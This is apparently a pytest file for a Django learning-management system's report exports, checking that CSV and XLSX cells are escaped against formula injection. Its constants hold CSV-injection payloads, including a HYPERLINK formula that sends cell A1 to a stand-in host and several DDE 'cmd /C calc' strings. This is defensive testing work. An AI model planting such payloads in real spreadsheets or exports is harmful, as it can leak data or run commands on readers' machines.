"""Exports neutralise formulas: a typed `=HYPERLINK(...)` arrives as text.

Each field people type that reaches an export (a person's name, a unit's
name, a job title, a cohort's name, a trainer's institution, a requirement's
name heading a column) carries a payload; every CSV and XLSX export writes
it with a leading apostrophe, as OWASP advises, and figures stay numbers.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.urls import reverse
from wagtail.log_actions import log

from lms.lib.spreadsheet_cells import safe_cell
from lms.models import Person
from tests.admin_helpers import signed_in
from tests.factories import UserFactory, with_mfa
from tests.lms.reports.test_hr_report_cohorts import (
    complete,
    frozen_today,  # noqa: F401
    group,  # noqa: F401
    staff_member,
)
from tests.lms.transparency.test_open_data import read_csv
from tests.lms.transparency.test_transparency import build_dataset

NAME = '=HYPERLINK("http://malo.example/?x="&A1,"Ver")'
POST = "+cmd|' /C calc'!A0"
UNIT = "@SUM(1+1)*cmd|' /C calc'!A0"
COHORT = "-2+3+cmd|' /C calc'!A0"
TRAINER = "=1+1"
INSTITUTION = "=SUM(A1:A9)"
REQUIREMENT = "=2+5"


def quoted(payload: str) -> str:
    return f"'{payload}"


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("Pérez", "Pérez"),
        ("", ""),
        (-3, -3),
        (None, None),
    ],
)
def test_only_text_that_a_spreadsheet_would_run_is_quoted(value, written):
    assert safe_cell(value) == written


@pytest.fixture
def typed(units, induction, course, group, trainer):  # noqa: F811
    """Completed in a group: every text a stranger could type is a payload."""
    units["a1"].name = UNIT
    units["a1"].save(update_fields=["name"])
    group.name = COHORT
    group.save(update_fields=["name"])
    Person.objects.filter(pk=trainer.person_id).update(first_names=TRAINER)
    staff = staff_member(units["a1"], "Grupal")
    Person.objects.filter(pk=staff.person_id).update(first_names=NAME)
    staff.post = POST
    staff.save(update_fields=["post"])
    induction.name = REQUIREMENT
    induction.save(update_fields=["name"])
    complete(staff, course, cohort=group)
    return staff


def exported(client, user, report: str, export_format: str, **params) -> list[list]:
    response = signed_in(client, user).get(
        reverse(f"lms_report_{report}"), {"export": export_format, **params}
    )
    assert response.status_code == 200
    content = b"".join(response.streaming_content)
    if export_format == "csv":
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_hr_assignments_export_quotes_every_typed_field(
    client, hr_a, typed, export_format
):
    rows = exported(client, hr_a, "assignments", export_format)
    headings, row = rows[0], rows[1]
    cells = dict(zip(headings, row, strict=True))

    assert cells["Name"] == quoted(f"{NAME} Grupal")
    assert cells["Unit"] == quoted(UNIT)
    assert cells["Post"] == quoted(POST)
    assert cells["Group"] == quoted(COHORT)
    assert cells["Trainer"] == quoted(f"{TRAINER} Vásquez")
    assert cells["Requirement"] == quoted(REQUIREMENT)


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_new_hires_export_quotes_a_requirement_heading(
    client, hr_a, typed, export_format
):
    rows = exported(client, hr_a, "new_hires", export_format, days=366)

    assert quoted(REQUIREMENT) in rows[0]
    assert rows[1][0] == quoted(f"{NAME} Grupal")


@pytest.mark.django_db
def test_completion_export_quotes_unit_names_and_keeps_figures_numbers(
    client, hr_a, typed
):
    rows = exported(client, hr_a, "completion", "xlsx")
    cells = {row[1]: row for row in rows[1:]}

    assert quoted(UNIT) in cells
    assert all(isinstance(figure, int) for figure in cells[quoted(UNIT)][2:6])


@pytest.mark.django_db
@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_reach_export_quotes_trainer_and_institution(
    client, integrity_officer, trainer, typed, export_format
):
    trainer.institution = INSTITUTION
    trainer.save(update_fields=["institution"])

    rows = exported(client, integrity_officer, "reach_trainers", export_format)
    cells = dict(zip(rows[0], rows[1], strict=True))

    assert cells["Trainer"] == quoted(f"{TRAINER} Vásquez")
    assert cells["Institution"] == quoted(INSTITUTION)
    if export_format == "xlsx":
        assert isinstance(cells["Participants"], int)


@pytest.mark.django_db
def test_open_data_quotes_unit_names(client, catalogue, integrity_officer):
    dataset = build_dataset(catalogue=catalogue, integrity_officer=integrity_officer)
    dataset.units["a"].name = NAME
    dataset.units["a"].save(update_fields=["name"])

    response = client.get(reverse("transparency:dataset_csv", args=["units"]))

    rows = {row["unit_code"]: row for row in read_csv(response)}
    assert rows["GRDS"]["unit_name"] == quoted(NAME)
    assert rows["GRDS"]["staff_due"] == "6"


@pytest.mark.django_db
def test_wagtail_site_history_export_quotes_labels(client, units):
    admin = with_mfa(UserFactory(is_superuser=True))
    units["a"].name = NAME
    log(instance=units["a"], action="wagtail.edit", user=admin)

    response = signed_in(client, admin).get(
        reverse("wagtailadmin_reports:site_history"), {"export": "csv"}
    )

    text = b"".join(response.streaming_content).decode()
    assert quoted(NAME) in next(iter(csv.reader(io.StringIO(text.splitlines()[1]))))
    assert f",{NAME}" not in text
